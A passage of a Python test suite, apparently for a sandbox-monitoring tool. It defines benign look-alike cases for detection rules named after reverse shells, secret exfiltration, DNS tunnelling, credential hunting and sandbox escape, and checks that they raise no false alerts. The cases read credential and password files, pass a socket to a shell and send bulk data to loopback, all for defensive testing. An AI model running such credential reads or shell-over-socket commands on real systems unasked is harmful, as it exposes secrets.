        s.connect(os.environ["APP_SOCK"])
        s.close()
        """), check=lambda env, recs: assert_any(
            recs, lambda r: r["type"] == "connect"
            and r["connect"]["addr"] == env.vars["APP_SOCK"])),
    Case("cloud-credentials-read", "credentials-example", argv=sh("""
        ls -la ~/.aws > /dev/null
        cat "$WORK/config/credentials.example" > /dev/null
        """), check=opened("/config/credentials.example")),
    Case("token-file-read", "npm-install", timeout=120, argv=sh("""
        set -e
        mkdir -p "$WORK/npm/dep" "$WORK/npm/app"
        cd "$WORK/npm/dep"
        echo '{"name": "vigil-dep", "version": "1.0.0"}' > package.json
        echo 'module.exports = 42;' > index.js
        cd "$WORK/npm/app"
        echo '{"name": "vigil-app", "version": "1.0.0",
               "dependencies": {"vigil-dep": "file:../dep"}}' > package.json
        npm install --no-audit --no-fund
        node -e 'process.exit(require("vigil-dep") === 42 ? 0 : 1)'
        """), check=opened("/.npmrc", by="npm")),
    Case("token-file-read", "pip-install", timeout=120, argv=sh("""
        set -e
        pip install --target "$WORK/vendor" --index-url "$INDEX" vigiltoy
        PYTHONPATH="$WORK/vendor" /usr/bin/python3 -c 'import vigiltoy'
        """), check=opened("/.config/pip/pip.conf", "/.netrc", by="pip")),
    Case("token-file-read", "git-credential-store", argv=sh("""
        printf 'protocol=https\\nhost=127.0.0.1\\n\\n' |
            git -c credential.helper=store credential fill > /dev/null
        curl -fsS --netrc-optional "$HTTP/data.json" > /dev/null
        echo '# always-auth=false' >> ~/.npmrc
        """), check=opened("/.git-credentials", "/.netrc", "/.npmrc")),
    Case("browser-credential-read", "browser-prefs", argv=sh("""
        cat ~/.mozilla/firefox/profiles.ini > /dev/null
        cat ~/.config/google-chrome/Default/Preferences > /dev/null
        ls ~/.mozilla/firefox/*.default-release > /dev/null
        """), check=opened("/profiles.ini", "/Default/Preferences")),
    Case("shadow-read", "passwd", argv=sh("""
        cat /etc/passwd > /dev/null
        getent passwd root > /dev/null
        id > /dev/null
        ls -l /etc/shadow > /dev/null
        """), check=opened("/etc/passwd")),
    Case("proc-memory-read", "ps-and-self", argv=sh("""
        ps -ef > /dev/null
        ps aux > /dev/null
        sleep 5 & child=$!
        ps -o pid,args --ppid $$ > /dev/null
        ps -u "$USER" -o pid= > /dev/null
        ps -C sleep > /dev/null
        cat /proc/$child/stat /proc/$child/cmdline /proc/$child/status \\
            > /dev/null
        kill $child
        /usr/bin/python3 -c '
        import threading
        open("/proc/self/environ", "rb").read()
        open("/proc/self/maps").read()
        open("/proc/thread-self/maps").read()
        threading.Thread(target=lambda: None).start()
        '
        """), check=all_of(execed("ps"), opened("/maps"))),
    Case("cloud-metadata-contact", "loopback-http", netns=True, argv=py("""
        import socket
        for addr in ("127.0.0.1", "::1"):
            s = socket.create_connection((addr, 80), timeout=5)
            s.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
            s.close()
        """), check=connected(80)),
    Case("home-sweep", "caches-and-projects", argv=py("""
        import glob, os
        home = os.path.expanduser("~")
        for d in (".cache/vigil-bench/*", "projects/notes/*"):
            for p in sorted(glob.glob(os.path.join(home, d))):
                open(p).read()
        """), check=opened("/.cache/vigil-bench/c59",
                           "/projects/notes/n59.txt")),
    # ----------------------------------------------------------- egress
    Case("secret-then-egress", "secret-then-loopback", netns=True,
         also=("cloud-credentials-read",),
         argv=[PY, "-c", EXFIL, "127.0.0.1", "0"], check=connected(80)),
    Case("egress-volume-unknown", "60mib-loopback", netns=True,
         argv=[PY, "-c", SEND, "127.0.0.1", str(60 << 20), "1"],
         stdout=f"sent {60 << 20}", check=connected(80)),
    Case("egress-budget-spent", "budget-loopback", netns=True,
         profile="small-budget",
         argv=[PY, "-c", SEND, "::1", str(4 << 20), "1"],
         stdout=f"sent {4 << 20}", check=connected(80)),
    Case("unknown-destination-connect", "loopback-and-unix", netns=True,
         argv=py("""
        import os, socket
        for addr in ("127.0.0.1", "::1", "0.0.0.0", "::"):
            socket.create_connection((addr, 80), timeout=5).close()
        u = socket.socket(socket.AF_UNIX)
        u.connect(os.environ["APP_SOCK"])
        u.close()
        """), check=connected(80)),
    Case("dns-unknown-resolver", "dns-loopback", netns=True, argv=py(f"""
        import socket
        c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        c.connect(("127.0.0.1", 53))
        try:
            c.send({DNS_QUERY!r})
        except PermissionError:     # a name the profile does not allow
            pass
        """), check=all_of(connected(53), queried("example.com"))),
    Case("dns-tunnel-label", "wordy-names", argv=[
        PY, "-c", QUERY, "www.example.test",
        "registry-mirror-for-internal-packages.example.test",
        "d3kxqm1h7e9v0s.cloudfront.test"],
        check=queried("registry-mirror-for-internal-packages.example.test")),
    Case("dns-tunnel-subdomains", "a-few-hosts", argv=[
        PY, "-c", QUERY, *(f"host{i}.api.example.test" for i in range(100)),
        *(f"host{i}.cdn.example.test" for i in range(50))],
        check=queried("host49.cdn.example.test")),
    # 300 names, three under each of 100 parents: counted per parent.
    Case("dns-tunnel-subdomains", "many-parents", argv=[
        PY, "-c", QUERY, *(f"h{i % 3}.site{i // 3}.test"
                           for i in range(300))],
        check=queried("h2.site99.test")),
    Case("destination-sweep", "few-hosts", netns=True, argv=py("""
        import socket
        for i in range(40):
            socket.create_connection(("127.0.0.1", 80), timeout=5).close()
        for i in range(2, 22):
            s = socket.socket()
            s.connect_ex(("127.0.0.%d" % i, 9))
            s.close()
        """), check=connected(9)),
    Case("port-scan", "few-ports", netns=True, argv=py("""
        import socket
        for i in range(100):
            socket.create_connection(("127.0.0.1", 80), timeout=5).close()
        for port in range(1000, 1060):
            s = socket.socket()
            s.connect_ex(("127.0.0.1", port))
            s.close()
        """), check=connected(1059)),
    # -------------------------------------------------------- execution
    Case("reverse-shell", "pipe-and-unix-stdin", argv=py("""
        import os, socket, subprocess
        r = subprocess.run(["/bin/sh"], input=b"echo from-pipe\\n",
                           capture_output=True)
        assert r.stdout == b"from-pipe\\n", r
        a, b = socket.socketpair()
        b.sendall(b"echo from-socketpair\\n")
        b.shutdown(socket.SHUT_WR)
        r = subprocess.run(["/bin/sh"], stdin=a, capture_output=True)
        assert r.stdout == b"from-socketpair\\n", r
        s = socket.create_connection(
            ("127.0.0.1", int(os.environ["RSHELL_PORT"])))
        os.dup2(s.fileno(), 3)
        r = subprocess.run(["/bin/sh", "-c", "echo fd3 >&3"], pass_fds=[3],
                           capture_output=True, stdin=subprocess.DEVNULL)
        assert r.returncode == 0, r
        """), check=execed("dash")),
    Case("exec-from-temp", "workspace-binary", argv=sh("""
        set -e
        cd "$WORK"
        mkdir -p build
        cc -O2 -o build/hello src/hello.c
        ./build/hello > /dev/null
        /usr/bin/env true
        """), check=execed("hello", "cc1")),
    # A workspace under /tmp: what a build makes there and the scripts
    # it keeps are the agent's own work.
    Case("exec-from-temp", "tmp-workspace", argv=sh("""
        set -e
        d=$(mktemp -d "$TMPWORK/ws.XXXXXX")
        cp -r "$WORK/src" "$d/" && cd "$d" && mkdir build
        printf 'hello: src/hello.c\\n\\tcc -O2 -o build/hello src/hello.c\\n' \\
            > Makefile
        make -s hello && ./build/hello > /dev/null
        printf '#!/bin/sh\\n./build/hello\\n' > run.sh && chmod +x run.sh
        ./run.sh > /dev/null
        """), check=lambda env, recs: assert_any(
            recs, lambda r: r["type"] == "exec"
            and r["exec"]["script"].endswith("/run.sh"))),
    Case("loader-env-on-exec", "search-paths-and-proxy", argv=sh("""
        LD_LIBRARY_PATH="$WORK/lib" PYTHONPATH="$WORK" /bin/true
        https_proxy=http://127.0.0.1:3128 LD_PRELOAD= /usr/bin/env true
        """), check=lambda env, recs: assert_any(
            recs, lambda r: r["type"] == "exec"
            and f"LD_LIBRARY_PATH={env.work}/lib" in r["exec"]["env"])),
    Case("network-tool-exec", "usr-bin-tools", argv=sh("""
        /usr/bin/nproc > /dev/null
        /usr/bin/nice /usr/bin/true
        /usr/bin/nl /etc/hostname > /dev/null
        """), check=execed("nproc", "nice", "nl")),
    Case("download-and-execute", "download-as-data", argv=sh("""
        set -e
        curl -fsS "$HTTP/data.json" | /usr/bin/python3 -m json.tool > /dev/null
        curl -fsS -o "$WORK/install.sh" "$HTTP/install.sh"
        sha256sum "$WORK/install.sh" > /dev/null
        wget -qO- "$HTTP/data.json" | sha256sum > /dev/null
        """), check=execed("curl", "wget")),
    # ------------------------------------------------------ persistence
    Case("shell-rc-write", "bashrc-txt", argv=sh("""
        set -e
        echo 'alias ll="ls -l"' > "$WORK/bashrc.txt"
        echo 'alias ll="ls -l"' > "$WORK/.bashrc"
        cat ~/.bashrc > /dev/null
        bash -c 'cat ~/.profile > /dev/null'
        """), check=opened("/work/bashrc.txt", "/home/.bashrc")),
    Case("authorized-keys-write", "keys-example", argv=sh("""
        set -e
        mkdir -p "$WORK/docs"
        cat ~/.ssh/authorized_keys > "$WORK/docs/authorized_keys.example"
        """), check=opened("/docs/authorized_keys.example")),
    Case("crontab-write", "crontab-txt", argv=sh("""
        set -e
        echo '* * * * * make -C /work test' > "$WORK/crontab.txt"
        ls /etc/cron.d > /dev/null 2>&1 || true
        """), check=opened("/work/crontab.txt")),
    Case("systemd-unit-write", "unit-in-project", argv=sh("""
        set -e
        mkdir -p "$WORK/deploy"
        printf '[Service]\\nExecStart=/usr/bin/app\\n' \\
            > "$WORK/deploy/app.service"
        systemctl --version > /dev/null
        ls /lib/systemd/system > /dev/null
        """), check=opened("/deploy/app.service")),
    Case("git-hook-write", "init-clone-pre-commit", timeout=120, argv=sh("""
        set -e
        cd "$WORK"
        git init -q repo
        git clone -q repo clone 2> /dev/null
        cd clone
        pre-commit install > /dev/null
        test -x .git/hooks/pre-commit
        """), check=opened("/hooks/pre-commit.sample",
                           "/clone/.git/hooks/pre-commit")),
    # ------------------------------------------------------------- host
    Case("host-escape-syscall", "list-mounts", argv=sh("""
        mount > /dev/null
        df > /dev/null
        cat /proc/self/mountinfo > /dev/null
        """), check=execed("mount", "df")),
    Case("host-probe-syscall", "processes", argv=sh("""
        ps -e > /dev/null
        cat /proc/self/status > /dev/null
        /usr/bin/python3 -c 'import os
        pid = os.fork()
        os._exit(0) if pid == 0 else os.waitpid(pid, 0)'
        """), check=execed("ps")),
    Case("bpffs-tamper", "list-pins", argv=sh("""
        ls /sys/fs/bpf > /dev/null 2>&1 || true
        """), check=execed("ls")),
    Case("bpf-from-sandbox", "bpf-facts", argv=sh("""
        cat /proc/sys/kernel/unprivileged_bpf_disabled > /dev/null
        ls /sys/fs/bpf > /dev/null 2>&1 || true
        """), check=opened("/unprivileged_bpf_disabled")),
    Case("io-uring-evasion", "event-loop", argv=py("""
        import asyncio                   # an event loop: epoll, no io_uring
        asyncio.run(asyncio.sleep(0.01))
        print("loop done", flush=True)
        """), stdout="loop done"),
    Case("sandbox-escape", "nested-cgroups", user="root", argv=sh("""
        set -e
        sb="$CG2$(sed -n 's/^0:://p' /proc/self/cgroup)"
        mkdir "$sb/job"
        echo $$ > "$sb/job/cgroup.procs"
        cat "$CG2/cgroup.procs" "$sb/job/cgroup.procs" > /dev/null
        sed -n 's/^0:://p' /proc/self/cgroup
        """), check=opened("/job/cgroup.procs")),
    # The same file, opened as fast as a loop goes: the kernel counts the
    # repeats, nothing is lost.
    Case("sandbox-flood", "reopen-one-file", argv=py("""
        import os
        for _ in range(300000):
            os.close(os.open("/etc/hostname", os.O_RDONLY))
        print("reopened", flush=True)
        """), stdout="reopened", check=lambda env, recs: assert_any(
            recs, lambda r: r["type"] == "repeat")),
    # A flood that loses records, with no kill among them, in a profile
    # that tolerates floods.
    Case("kernel-kill-unseen", "open-flood", also=("sandbox-flood",),
         profile="bulk", argv=sh(f"""
        for i in 1 2 3; do {PY} -c '{FLOOD.format(seconds=3)}' & done; wait
        """),
         check=lambda env, recs: assert_any(
            recs, lambda r: r["type"] == "drop"
            and r["drop"]["lost"] > 0)),
    # --------------------------------------------------------- mutation
    Case("system-dir-mutation", "workspace-churn", argv=sh("""
        set -e
        mkdir -p "$WORK/churn/a/b"
        echo x > "$WORK/churn/a/f"
        mv "$WORK/churn/a/f" "$WORK/churn/a/b/g"
        ln -s b/g "$WORK/churn/a/l"
        chmod 755 "$WORK/churn/a/b/g"
        rm -rf "$WORK/churn"
        """), check=lambda env, recs: assert_any(
            recs, lambda r: r["type"] == "file"
            and r["file"]["op"] == "rename"
            and r["file"]["path2"].endswith("/churn/a/b/g"))),
    Case("setid-bit-set", "plain-chmod", argv=sh("""
        cp /bin/true "$WORK/tool" && chmod 755 "$WORK/tool" && rm "$WORK/tool"
        """), check=lambda env, recs: assert_any(
            recs, lambda r: r["type"] == "file" and r["file"]["op"] == "chmod"
            and r["file"]["mode"] == 0o755)),
    Case("listener-or-raw-socket", "client-and-unix-server", argv=py("""
        import os, socket
        u = socket.socket(socket.AF_UNIX)
        u.bind(os.path.join(os.environ["WORK"], "srv.sock"))
        u.listen(1)
        os.unlink(os.path.join(os.environ["WORK"], "srv.sock"))
        socket.getaddrinfo("localhost", 80)
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind(("127.0.0.1", 0))
        """), check=lambda env, recs: assert_any(
            recs, lambda r: r["type"] == "socket"
            and r["socket"]["op"] == "listen"
            and r["socket"]["family"] == "unix")),
    # runuser and su, as root, lend the real uid to the user for PAM and
    # take it back, the effective uid 0 all along: nothing is gained.
    Case("credential-to-root", "root-lends-its-real-uid", user="root",
         argv=py("""
        import os
        os.setreuid(1000, -1)
        os.setreuid(0, -1)
        """), check=lambda env, recs: assert_any(
            recs, lambda r: r["type"] == "cred"
            and r["cred"]["syscall"] == "setreuid"
            and r["cred"]["old"]["uid"] == 1000
            and r["cred"]["new"]["uid"] == 0)),
    Case("credential-to-root", "root-drops", user="root", argv=py("""
        import os
        os.setgroups([])
        os.setresgid(1000, 1000, 1000)
        os.setresuid(1000, 1000, 1000)
        """), check=lambda env, recs: assert_any(
            recs, lambda r: r["type"] == "cred"
            and r["cred"]["syscall"] == "setresuid"
            and r["cred"]["new"]["uid"] == 1000)),
]


BENIGN += [
    Case("drop-and-execute", "built-and-fetched-data", argv=sh("""
        set -e
        curl -fsS -o "$WORK/data.json" "$HTTP/data.json"
        python3 -m json.tool "$WORK/data.json" > /dev/null
        cc -O2 -o "$WORK/built" "$WORK/src/hello.c" && "$WORK/built"
        echo aGVsbG8K | base64 -d > "$WORK/note.txt" && cat "$WORK/note.txt"
        """), check=execed("curl", "built", "base64")),
    Case("credential-hunting", "code-search", argv=sh("""
        grep -rn password "$WORK" > /dev/null || true
        grep -rn 'api_key\\|token' "$WORK/src" > /dev/null || true
        find "$WORK" -name '*.c' -o -name 'key*.py' > /dev/null
        """), check=execed("grep", "find")),
    Case("crypto-miner", "stratum-mentioned", argv=sh("""
        /bin/echo "the stratum protocol, see docs" > /dev/null
        """), check=execed("echo")),
    Case("data-destruction", "clean-build", argv=sh("""
        set -e
        mkdir -p "$WORK/out" && echo x > "$WORK/out/a.o"
        dd if=/dev/zero of="$WORK/blob" bs=1k count=4 2>/dev/null
        rm -rf "$WORK/out" "$WORK/blob"
        """), check=execed("dd", "rm")),
    Case("log-or-history-tamper", "own-logs", argv=sh("""
        set -e
        echo ls >> ~/.bash_history
        echo build > "$WORK/build.log" && rm "$WORK/build.log"
        mkdir -p "$WORK/.cache" && echo x > "$WORK/.cache/history"
        rm -r "$WORK/.cache"
        """), check=lambda env, recs: assert_any(
            recs, lambda r: r["type"] == "file"
            and r["file"]["op"] == "unlink"
            and r["file"]["path"].endswith("/build.log"))),
    Case("user-management", "who-am-i", argv=sh("""
        id > /dev/null; getent passwd root > /dev/null; whoami > /dev/null
        """), check=execed("id", "getent", "whoami")),
    Case("cgroup-release-agent-write", "release-agent-notes", argv=sh("""
        cat /proc/self/cgroup > /dev/null
        echo notes > "$WORK/release_agent.md" && rm "$WORK/release_agent.md"
        """), check=lambda env, recs: assert_any(
            recs, lambda r: r["type"] == "open"
            and r["open"]["path"].endswith("/release_agent.md"))),
]


def assert_any(recs, pred):
    assert any(pred(r) for r in recs), fmt_records(recs)


def _ids(cases):
    return [f"{c.rule}:{c.name}" for c in cases]


# ------------------------------------------------------------ running


def _case_env(env, case):
    e = {
        "PATH": "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:"
                "/sbin:/bin",
        "LANG": "C.UTF-8",
        "TERM": "dumb",
        "GIT_TERMINAL_PROMPT": "0",
        "GIT_CONFIG_NOSYSTEM": "1",
        "PIP_DISABLE_PIP_VERSION_CHECK": "1",
        "PIP_NO_INPUT": "1",
        **env.vars,
    }
    if case.user == "root":
        e.update(HOME="/root", USER="root", LOGNAME="root")
    else:
        e.update(HOME=str(env.home), USER=env.user, LOGNAME=env.user)
    return e


def spawn(env, sb, case):
    """Starts the case in sandbox sb: namespaces first (so their set-up
    is not the sandbox's doing), then the cgroup, then the agent's
    credentials; the program is inside from its first instruction."""
    ns_fd = os.open(f"/run/netns/{env.netns}", os.O_RDONLY) \
        if case.netns else None
    agent = case.user != "root"
    uid, gid = env.uid, env.gid

    def pre():
        if case.tmpfs:
            _private_tmpfs(case.tmpfs)
        if ns_fd is not None:
            _setns(ns_fd, CLONE_NEWNET)
        join_cgroup(sb)
        if agent:
            os.setgroups([])
            os.setgid(gid)
            os.setuid(uid)

    try:
        p = subprocess.Popen(case.argv, preexec_fn=pre,
                             cwd=str(env.work) if agent else "/",
                             env=_case_env(env, case),
                             stdin=subprocess.DEVNULL,
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    finally:
        if ns_fd is not None:
            os.close(ns_fd)
    conftest._children.append(p)
    return p


def _sandbox_records(v, sid):
    return [r for r in v.records()
            if (r.get("sandbox") or {}).get("id") == sid]


def _kill_sandbox(sb, p):
    try:
        with open(os.path.join(sb, "cgroup.kill"), "w") as f:
            f.write("1")
    except FileNotFoundError:
        pass
    try:
        p.wait(timeout=30)
    except subprocess.TimeoutExpired:
        p.kill()
        p.wait()


@pytest.mark.parametrize("case", FIRE, ids=_ids(FIRE))
def test_fires(shipped, case):
    """The behaviour raises the rule's alert, with the rule's severity
    and tags, and its action where the rule acts (or its score crosses
    the threshold the case names)."""
    env, v = shipped.env, shipped.v
    rule = shipped_rules()[case.rule]
    sid = f"f-{case.name}"
    sb = make_sandbox(shipped.root, sid, profile=case.profile)
    p = spawn(env, sb, case)
    try:
        a = v.wait_for(lambda r: r["type"] == "alert"
                       and r["sandbox"]["id"] == sid
                       and r["alert"]["rule"] == case.rule, timeout=30,
                       what=f"{case.rule} alert from sandbox {sid}")
        x = a["alert"]
        assert x["severity"] == rule.get("severity", "medium"), x
        assert x["tags"] == rule.get("tags", []), x
        assert x["score"] == rule.get("score", 0), x
        trig = by_seq(v.records(), x["trigger"]["seq"])
        assert trig["type"] == x["trigger"]["type"]
        assert trig["sandbox"]["id"] == sid

        if case.kernel:
            out, err = p.communicate(timeout=30)
            assert p.returncode == SIGKILL, (p.returncode, out, err)
            assert b"returned" not in out, \
                f"the opener returned from open(): {out!r}"
            x = trig[trig["type"]]
            assert x["kernel_killed"] is True, trig
            assert case.kernel in x.get("filesets",
                                        [x.get("name", x.get("how"))]), trig

        want = rule.get("action") or case.action
        if want:
            k = v.wait_for(lambda r: r["type"] == "action"
                           and r["sandbox"]["id"] == sid
                           and r["action"]["action"] == want, timeout=30,
                           what=f"{want} action on sandbox {sid}")
            y = k["action"]
            if rule.get("action"):
                assert (y["reason"], y["rule"]) == ("rule", case.rule), y
            else:
                assert y["reason"] == "threshold", y
            assert y["outcome"] == "done", y
            if want == "kill":
                assert p.wait(timeout=30) == SIGKILL
    finally:
        _kill_sandbox(sb, p)


@pytest.mark.parametrize("case", BENIGN, ids=_ids(BENIGN))
def test_benign(shipped, case):
    """The neighbour runs to a clean exit and raises no alert (but those
    it names as expected of something else it does)."""
    env, v = shipped.env, shipped.v
    sid = f"b-{case.name}"
    sb = make_sandbox(shipped.root, sid, profile=case.profile)
    shipped.benign_ran[sid] = case
    p = spawn(env, sb, case)
    try:
        out, err = p.communicate(timeout=case.timeout)
    except subprocess.TimeoutExpired:
        _kill_sandbox(sb, p)
        pytest.fail(f"{case.name} did not finish within {case.timeout}s\n"
                    f"{fmt_records(_sandbox_records(v, sid))}")
    assert p.returncode == 0, (p.returncode, out.decode(errors="replace"),
                               err.decode(errors="replace"))
    v.wait_for(lambda r: r["type"] == "exit" and pid_of(r) == p.pid
               and r["sandbox"]["id"] == sid, timeout=30,
               what=f"the exit of {case.name}")
    recs = _sandbox_records(v, sid)
    bad = [r["alert"]["rule"] for r in recs if r["type"] == "alert"
           and r["alert"]["rule"] not in case.also]
    assert bad == [], _describe(recs)
    assert case.rule not in case.also
    if case.stdout is not None:
        assert case.stdout in out.decode().splitlines(), out
    if case.check:
        case.check(env, recs)


def test_benign_sandboxes_stayed_quiet(shipped):
    """Stops the daemon (which drains the kernel buffers and writes the
    last flow records) and checks that no benign sandbox alerted after
    its own test looked."""
    records = shipped.v.stop()
    late = {}
    for r in records:
        sid = (r.get("sandbox") or {}).get("id")
        if r["type"] == "alert" and sid in shipped.benign_ran:
            if r["alert"]["rule"] not in shipped.benign_ran[sid].also:
                late.setdefault(sid, []).append(r["alert"]["rule"])
    assert late == {}, late


def _describe(recs):
    lines = []
    for r in recs:
        if r["type"] == "alert":
            a = r["alert"]
            trig = [t for t in recs if t["seq"] == a["trigger"]["seq"]]
            lines.append(f"alert {a['rule']} on {trig[0] if trig else '?'}")
    return "\n".join(lines) or fmt_records(recs)


def test_every_shipped_rule_has_a_firing_and_a_benign_case():
    ids = set(shipped_rules())
    fire = {c.rule for c in FIRE} | set(ELSEWHERE)
    for rule, where in ELSEWHERE.items():
        path, test = where.split("::")
        assert f"def {test}(" in (Path(__file__).parent / path).read_text(), \
            f"{rule}: {where} does not exist"
    benign = {c.rule for c in BENIGN}
    assert not ids - fire, f"shipped rules with no firing case: {ids - fire}"
    assert not ids - benign, \
        f"shipped rules with no benign case: {ids - benign}"
    assert not (fire | benign) - ids, \
        f"cases for rules that are not shipped: {(fire | benign) - ids}"
    names = [f"f-{c.name}" for c in FIRE] + [f"b-{c.name}" for c in BENIGN]
    assert len(names) == len(set(names)), "case names must be unique"


def test_default_profile():
    """The default profile: loopback only (0.0.0.0 and :: are loopback to
    connect()), the issue's egress budget, the kernel-enforced rules."""
    profiles = [i for i in shipped_items() if i.get("profile") == "default"]
    assert len(profiles) == 1, profiles
    d = profiles[0]
    assert d["allow"]["destinations"] == ["127.0.0.0/8", "::1", "0.0.0.0",
                                          "::"]
    assert d["egress_budget"] == "100MiB"
    assert d["egress"] == "deny"
    assert d["thresholds"] == {"alert": 20, "freeze": 60, "kill": 100}
    kernel = {i["rule"] for i in shipped_items()
              if i.get("enforce") == "kernel"}
    assert kernel == {"ssh-private-key-read", "shadow-read",
                      "io-uring-evasion", "bpf-from-sandbox"}, kernel
